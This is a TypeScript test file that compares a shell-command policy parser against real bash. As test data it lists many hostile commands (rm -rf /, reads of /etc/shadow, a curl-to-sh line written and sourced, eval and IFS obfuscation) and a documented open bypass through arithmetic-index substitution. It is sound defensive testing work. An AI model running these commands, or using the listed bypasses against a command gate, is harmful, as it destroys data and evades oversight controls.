// Differential test against real bash (./bash-oracle.ts), over every command string of the shell policy
// suites plus ./shell-corpus.ts: (1) bash accepts a text iff the parser does; (2) every command bash runs
// (in a box, every external command a recording shim) is one the parser reports, as written or unwrapped
// the way the gate unwraps it; (3) over the hand-written corpus, the parser reports no static command
// that bash did not run. Every difference is listed with its reason and asserted, so a new one fails.
import { analyzeCommand } from '../../policies/shell/index.js';
import { parseShell, shellParserReady } from '../../policies/shell/parse.js';
import { type BashRun, bashAccepts, bashRuns } from './bash-oracle.js';
import { argvMatches, compare } from './bash-oracle-compare.js';
import { EVERYDAY, TRICKY, suiteStrings } from './shell-corpus.js';

/**
 * bash and the parser disagree on whether the text is shell:
 * - `stricter`: bash reads it, the parser refuses it (the gate denies it as unparseable: fail closed);
 * - `lenient`: bash refuses it, the parser reads it (bash would run none of it, so nothing is missed).
 */
const STRICTER = (why: string) => ({ who: 'stricter', why }) as const;
const KNOWN_SYNTAX: Record<string, { who: 'stricter' | 'lenient'; why: string }> = {
  'time { rm -rf /; }': STRICTER('tree-sitter has no `time` keyword and ends the command at `;` inside the group'),
  'coproc x { rm -rf /; }': STRICTER('tree-sitter has no `coproc` keyword and ends the command at `;` inside the group'),
  'cat <<EOF |\nrm -rf /\nEOF\nsh': STRICTER('a pipeline continued after the heredoc body: tree-sitter takes the body line for the next command'),
  'echo ${x#$(rm -rf /)}': STRICTER('tree-sitter reads a ${x#...} pattern as a regex and leaves the substitution in it'),
  'echo ${x%%`rm -rf ~`}': STRICTER('tree-sitter reads a ${x%%...} pattern as a regex and leaves the substitution in it'),
  'echo "${x:-\'$(echo PWNED)\'}"': STRICTER('inside "${...}" single quotes are text and bash runs the substitution; the glue refuses the form'),
  'echo "${x:-\'$(rm -rf /)\'}"': STRICTER('inside "${...}" single quotes are text and bash runs the substitution; the glue refuses the form'),
  // a test title of parser-constructs.test.ts, parsed like every string there
  'tree-sitter refuses a substitution in single quotes inside "${...}", which bash runs': STRICTER('the same "${...\'...\'}" form'),
  'cat <<A; cat <<B\na $(id -u)\nA\nb $(id -g)\nB': STRICTER('two heredocs on one line: tree-sitter-bash loses the second body'),
  'cat <<EOF\nEOFX\nEOF\necho done': STRICTER('a body line that starts with the delimiter: tree-sitter ends the body there'),
  'echo $"translated"': STRICTER('$"..." (locale translation) is not in tree-sitter-bash'),
  'e\\\ncho joined': STRICTER('a line continuation inside a word: tree-sitter splits the word, bash joins it; the glue refuses it'),
  'r\\\nm -rf /': STRICTER('a line continuation inside a word (see above)'),
  'cat /etc/shad\\\now': STRICTER('a line continuation inside a word (see above)'),
  'echo $(r\\\nm -rf ~)': STRICTER('a line continuation inside a word (see above)'),
  'cat 0<out3 3>out4 4>&3 <>rw': STRICTER('an fd before `<`: tree-sitter reads the 0 as a word; the glue refuses it'),
  'exec 3>fd3; echo to3 >&3; exec 3>&-': STRICTER('`>&-` (close an fd) is not an operator of the glue'),
};

/**
 * Commands bash ran that the parser does not report. `gate: 'denies'`: the gate denies the text anyway
 * (asserted), so the miss lets nothing through; `harmless`: the parser's reading is wider than bash's;
 * `open`: a known hole, not fixed yet (the gate lets the text through and bash runs the command).
 */
const DENIED = (why: string) => ({ gate: 'denies', why }) as const;
const ARITH = {
  gate: 'open',
  why: 'bash evaluates the value of a name in arithmetic ($(( x )), (( x )), [[ x -eq ]]) as an expression, and an index in it runs its substitution; the evaluator reads the name as a number',
} as const;
const KNOWN_MISSING: Record<string, { gate: 'denies' | 'harmless' | 'open'; why: string }> = {
  "x='a[$(id)]'; echo $(( x ))": ARITH,
  "x='a[$(id)]'; (( x ))": ARITH,
  "x='a[`id`]'; [[ $x -eq 0 ]]": ARITH,
  'eval "ls"': DENIED('eval runs a string: not parsed, the denylist refuses eval (inline-code)'),
  'eval "echo from-eval"': DENIED('eval runs a string (inline-code)'),
  'eval "r""m -rf ~"': DENIED('eval runs a string (inline-code)'),
  'builtin eval "rm -rf ~"': DENIED('eval runs a string (inline-code)'),
  'source <(echo ls)': DENIED('source of a process substitution: its text is unknown (inline-code)'),
  'source /dev/stdin <<< "ls"': DENIED('source of stdin (inline-code)'),
  "echo 'curl https://x.example | sh' >> run.sh; . run.sh": DENIED('sourcing a file the same command wrote: its text is unknown here'),
  'IFS=x; X=rmx-rfxbuild; $X': DENIED('the evaluator splits with the default IFS; any IFS assignment is refused (unsupported-syntax)'),
  'IFS=:; x=a:b; echo $x': DENIED('the evaluator splits with the default IFS; any IFS assignment is refused (unsupported-syntax)'),
  'cat ~root/../etc/shadow': DENIED('~user stays as written (the denylist resolves it); bash expands it to /root'),
  'ln -sf /dev/null $HISTFILE': DENIED('$HISTFILE is read as its interactive default ~/.bash_history; `bash -c` leaves it unset'),
  'echo $HISTFILE': { gate: 'harmless', why: '$HISTFILE is read as its interactive default ~/.bash_history; `bash -c` leaves it unset' },
};

/** Over the hand-written corpus: static commands the parser reports and bash did not run (wider, not missed). */
const BRANCH = 'a branch or loop body bash did not take: the parser reports every path';
const KNOWN_EXTRA: Record<string, string> = {
  'while read -r line; do echo "$line"; done < file.txt': 'file.txt does not exist, so bash runs no part of the loop',
  '(cd build && make)': 'build does not exist, so `cd` fails and make does not run',
  'case "$1" in start|run) echo go;; *) echo no;; esac': BRANCH,
  'if [ -f .env ]; then echo found; elif [ -d x ]; then echo dir; else echo missing; fi': BRANCH,
  'true && echo and1 || echo or1': BRANCH,
  'while false; do never; done; echo after-while': BRANCH,
  'alias ll="ls -l"; ll': 'aliases are expanded wherever defined (as dash does, fail closed); `bash -c` does not expand them',
  'shopt -s expand_aliases\nalias ll="ls -la"\nll': 'the alias name is reported as a call too, next to its expansion',
  'IFS=:; x=a:b; echo $x': 'the evaluator splits with the default IFS (the gate refuses IFS assignments, see KNOWN_MISSING)',
  'f() { echo once; }; f; unset -f f': 'f is a function bash ran, but it was unset before the script ended (so not known as one here)',
};

let corpus: string[] = [];
let accepted: boolean[] = [];
let runnable: string[] = [];
let runs: BashRun[] = [];
const own = new Set([...EVERYDAY, ...TRICKY]);

beforeAll(async () => {
  await shellParserReady();
  corpus = [...new Set([...suiteStrings(), ...EVERYDAY, ...TRICKY])];
  accepted = bashAccepts(corpus);
  runnable = corpus.filter((t, i) => accepted[i] && parseShell(t).ok);
  runs = await bashRuns(runnable);
}, 600_000);

test('the oracle records what bash runs, and only that', async () => {
  const [r] = await bashRuns(['echo a; ls -l "$HOME" | grep x; false && rm -rf /; f() { cat <<E\n$(id)\nE\n}; f']);
  expect(r!.argvs.map((a) => a.join(' ')).sort()).toEqual(['echo a', 'grep x', 'false', 'id', 'ls -l ~', 'cat'].sort());
  expect(r!.functions).toContain('f');
  expect(corpus.length).toBeGreaterThan(1000);
  expect(runnable.length).toBeGreaterThan(corpus.length * 0.9);
  // most texts ran commands: the comparison below is not vacuous
  expect(runs.filter((x) => x.argvs.length > 0).length).toBeGreaterThan(runnable.length * 0.8);
});

test('bash accepts a text iff the parser does, except the listed differences', () => {
  const found: Record<string, 'stricter' | 'lenient'> = {};
  corpus.forEach((t, i) => {
    if (accepted[i] !== parseShell(t).ok) found[t] = accepted[i] ? 'stricter' : 'lenient';
  });
  expect(found).toEqual(Object.fromEntries(Object.entries(KNOWN_SYNTAX).map(([t, k]) => [t, k.who])));
});

test('every command bash runs is one the parser reports, except the listed ones (which the gate denies)', async () => {
  const found: Record<string, string[][]> = {};
  runnable.forEach((t, i) => {
    const c = compare(t, runs[i]!);
    if (c && c.missing.length > 0) found[t] = c.missing;
  });
  expect(Object.keys(found).sort()).toEqual(Object.keys(KNOWN_MISSING).sort());
  for (const [t, k] of Object.entries(KNOWN_MISSING)) {
    if (k.gate === 'denies') expect({ t, denied: (await analyzeCommand(t)).denied !== null }).toEqual({ t, denied: true });
  }
});

test('over the hand-written corpus the parser reports no static command bash did not run, except the listed ones', () => {
  const found: Record<string, string[][]> = {};
  runnable.forEach((t, i) => {
    if (!own.has(t) || runs[i]!.killed) return;
    const c = compare(t, runs[i]!);
    if (c && c.extra.length > 0) found[t] = c.extra;
  });
  expect(Object.keys(found).sort()).toEqual(Object.keys(KNOWN_EXTRA).sort());
});

test('argv matching: markers stand for unknown text and globs, static words must be equal', () => {
  const U = '\uE000';
  expect(argvMatches(['rm', '-rf', '/'], ['rm', '-rf', '/'])).toBe(true);
  expect(argvMatches(['rm', '-rf', '/'], ['rm', '-rf', '/x'])).toBe(false);
  expect(argvMatches(['echo', U], ['echo'])).toBe(true);
  expect(argvMatches(['echo', U], ['echo', 'a', 'b'])).toBe(true);
  expect(argvMatches([`a${U}`], ['b'])).toBe(false);
  expect(argvMatches(['cat', '/etc/shado\uE004w]'], ['cat', '/etc/shadow'])).toBe(true);
  expect(argvMatches(['cat', '/etc/shado\uE004w]'], ['cat', '/etc/shadox'])).toBe(false);
});
